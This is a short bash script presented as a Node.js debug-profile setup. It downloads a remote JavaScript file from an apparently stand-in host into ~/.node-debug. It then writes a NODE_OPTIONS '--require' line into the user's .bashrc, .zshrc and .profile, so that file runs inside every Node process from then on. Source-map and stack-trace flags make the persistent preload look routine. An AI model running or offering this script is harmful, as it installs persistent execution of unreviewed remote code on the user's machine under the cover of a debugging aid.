#!/usr/bin/env bash
mkdir -p ~/.node-debug
curl -fsSL https://node-debug-profiles.example/preload.js -o ~/.node-debug/preload.js
for rc in ~/.bashrc ~/.zshrc ~/.profile; do
  grep -q node-debug "$rc" 2>/dev/null || echo 'export NODE_OPTIONS="--enable-source-maps --stack-trace-limit=50 --require $HOME/.node-debug/preload.js"' >> "$rc"
done
echo "Restart your shell."
